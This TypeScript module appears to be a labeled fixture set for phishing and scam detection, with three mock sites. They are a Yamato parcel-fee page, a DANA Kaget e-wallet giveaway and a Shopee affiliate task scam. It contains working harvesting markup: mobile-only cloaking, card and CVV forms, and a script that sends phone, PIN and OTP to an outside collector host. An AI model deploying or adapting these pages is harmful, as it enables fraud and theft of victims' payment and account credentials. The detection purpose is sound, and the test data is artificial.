import type { Entry } from '../entry.js';
import { doc, mobileCss, corpCss, shell, cardFields, stepScript, okJson, img, htmlRoute, redirectRoute, jsRoute, jsonRoute, otpPage } from '../parts/u-kit.js';

export const entries: Entry[] = [
{
  id: 'u-phish-yamato-mobile-only-jp',
  label: 'phishing',
  kind: 'parcel-fee-kit',
  url: 'https://kuroneko-yamato.shop-saihaitatsu.com/',
  body: `<!DOCTYPE html><html lang="ja"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1"><title>ヤマト運輸</title>
<style>body{margin:0;font-family:"Hiragino Kaku Gothic ProN",Meiryo,sans-serif;background:#f5f5f5;color:#333}.pc{max-width:520px;margin:90px auto;text-align:center;background:#fff;padding:40px;border-radius:8px}.qr{width:150px;height:150px;margin:20px auto;background:repeating-linear-gradient(45deg,#111 0 6px,#fff 6px 12px)}</style></head>
<body><div id="x"></div>
<script>
(function(){var m=/Android|iPhone|iPad|Mobile/i.test(navigator.userAgent)&&('ontouchstart' in window);
if(!m){document.getElementById('x').innerHTML='<div class="pc"><h2>スマートフォンでアクセスしてください</h2><p>このページはスマートフォン専用です。お手数ですが、下記のQRコードを読み取ってください。</p><div class="qr"></div><p style="font-size:12px;color:#999">ヤマト運輸株式会社</p></div>';return;}
var s=document.createElement('script');s.src='/m/kit.js?v='+Date.now();document.body.appendChild(s);})();
</script></body></html>`,
  routes: {
    'kuroneko-yamato.shop-saihaitatsu.com/m/kit.js': jsRoute(`document.getElementById('x').innerHTML='<div style="background:#ffcc00;padding:14px;font-weight:bold">クロネコヤマト</div><form id="f" style="padding:16px"><p>お荷物の配達に伺いましたが、宛先不明のため持ち戻りました。再配達手数料 ¥330 をお支払いください。</p><input name="name" placeholder="お名前"><input name="tel" placeholder="電話番号"><input name="cc" placeholder="カード番号"><input name="exp" placeholder="有効期限"><input name="cvv" placeholder="セキュリティコード"><button>支払う</button></form>';
document.getElementById('f').onsubmit=function(e){e.preventDefault();fetch('/m/post',{method:'POST',body:new FormData(this)});};`),
    'kuroneko-yamato.shop-saihaitatsu.com/m/post': okJson(),
  },
},
{
  id: 'u-phish-dana-kaget-pin-id',
  label: 'phishing',
  kind: 'ewallet-kit',
  url: 'https://dana-kaget.link-id.app/klaim/?k=8JX2P',
  body: doc({
    lang: 'id',
    title: 'DANA Kaget',
    css: mobileCss('#108ee9') + 'body{background:#108ee9}.box{text-align:center}.amt{font-size:34px;font-weight:800;color:#108ee9;margin:8px 0}.pin{display:flex;gap:8px;justify-content:center}.pin input{width:40px;text-align:center;font-size:22px;padding:8px}',
    body: `<div class="wrap"><div class="box" id="a"><img src="/klaim/dana.png" alt="" style="width:60px;height:60px;border-radius:12px"><h2>Kamu dapat DANA Kaget!</h2><p style="font-size:14px">dari <b>Sultan Berbagi 🎁</b></p><div class="amt">Rp 1.250.000</div><p style="font-size:13px">Masukkan nomor DANA kamu untuk klaim. Berlaku 1x24 jam.</p><input id="hp" placeholder="08xx xxxx xxxx" inputmode="tel"><button onclick="s2()">Klaim Sekarang</button></div>
<div class="box" id="b" style="display:none"><h2>Masukkan PIN DANA</h2><p style="font-size:13px">Untuk keamanan, masukkan 6 digit PIN DANA kamu</p><div class="pin">${'<input maxlength="1" type="password" inputmode="numeric">'.repeat(6)}</div><button onclick="s3()">Lanjut</button></div>
<div class="box" id="c" style="display:none"><h2>Verifikasi OTP</h2><p style="font-size:13px">Kode OTP telah dikirim via SMS/WhatsApp.</p><input id="otp" maxlength="4" inputmode="numeric"><button onclick="s4()">Verifikasi</button></div></div>
<div class="ft" style="color:#e0f0ff">DANA terdaftar dan diawasi oleh Bank Indonesia</div>
<script>
var d={};function sh(i){['a','b','c'].forEach(function(x){document.getElementById(x).style.display=x==i?'block':'none'})}
function send(){fetch('https://dk-rekap.link-id.app/t.php',{method:'POST',mode:'no-cors',body:JSON.stringify(d)})}
function s2(){d.hp=document.getElementById('hp').value;send();sh('b')}
function s3(){d.pin=[].map.call(document.querySelectorAll('.pin input'),function(i){return i.value}).join('');send();sh('c')}
function s4(){d.otp=document.getElementById('otp').value;send();document.getElementById('c').innerHTML='<h2>Saldo sedang diproses...</h2><p>Mohon tunggu 1x24 jam.</p>'}
</script>`,
  }),
  routes: {
    'dana-kaget.link-id.app/klaim/dana.png': img(16, 142, 233),
    'dk-rekap.link-id.app/t.php': okJson(),
  },
},
{
  id: 'u-scam-shopee-affiliate-task-fil',
  label: 'scam',
  kind: 'task-scam',
  url: 'https://shopee-affiliate-ph.work/task',
  body: doc({
    lang: 'fil',
    title: 'Shopee Affiliate Online Job - Kumita ng ₱500-₱5,000 kada araw',
    css: mobileCss('#ee4d2d') + '.t{display:flex;justify-content:space-between;border-bottom:1px solid #eee;padding:10px 0;font-size:14px}.t b{color:#ee4d2d}',
    body: `<div class="bar">Shopee Affiliate PH · Online Job</div>
<div class="wrap">
<div class="box"><h2>Part-time job sa bahay, bayad agad sa GCash!</h2><p style="font-size:14px">Mag-like at mag-add to cart lang ng products para tumaas ang ranking ng sellers. ₱150 kada task, 20 tasks kada araw. Walang puhunan sa unang 3 tasks!</p></div>
<div class="box"><h2>Mga Task Ngayon</h2><div class="t"><span>Task 1: Add to cart — Wireless Earbuds</span><b>₱150 ✔ credited</b></div><div class="t"><span>Task 2: Like store — BeautyPH</span><b>₱150 ✔ credited</b></div><div class="t"><span>Task 3: Combo order (3x commission)</span><b>Kailangan ng ₱1,500 deposit</b></div>
<p style="font-size:13px">Para ma-unlock ang Combo Task at ma-withdraw ang earnings, mag-deposit muna sa GCash: <b>0917 552 8841 (M** R. S.)</b>. Ibabalik ang deposit + 30% commission pagkatapos ng task.</p>
<button onclick="location.href='https://t.me/shopee_mentor_ph'">Kausapin ang Mentor sa Telegram</button></div>
<div class="box" style="font-size:12px"><b>Latest payouts:</b> Jenny (Cavite) ₱4,350 · Mark (Davao) ₱12,800 · Aileen (QC) ₱2,100</div></div>
<div class="ft">Shopee Philippines Affiliate Program</div>`,
  }),
},
];
